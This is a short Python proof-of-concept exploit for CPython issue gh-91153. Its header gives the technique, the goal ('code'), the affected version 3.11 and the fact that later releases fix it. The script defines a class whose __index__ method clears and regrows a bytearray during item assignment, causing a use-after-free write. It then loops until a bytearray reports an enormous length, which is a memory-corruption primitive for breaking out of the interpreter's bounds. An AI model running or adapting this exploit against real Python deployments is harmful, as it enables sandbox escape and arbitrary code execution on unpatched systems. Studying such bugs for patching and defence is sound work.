# technique: __index__ of the value resizes the bytearray that is being written: a write into freed memory
# goal: code
# mended: later releases
# source: CPython gh-91153
# python: 3.11
found = []
for attempt in range(200):
    keep = []

    class Evil:
        def __index__(self):
            target.clear()
            keep.append(bytearray(b'V' * 50))
            target.extend(bytes(300))
            return 0x40

    target = bytearray(48)
    target[23] = Evil()
    if len(keep[0]) > 1 << 60:
        found.append(len(keep[0]))
        print('ESCAPED a bytearray of', found[0], 'bytes', flush=True)
        break
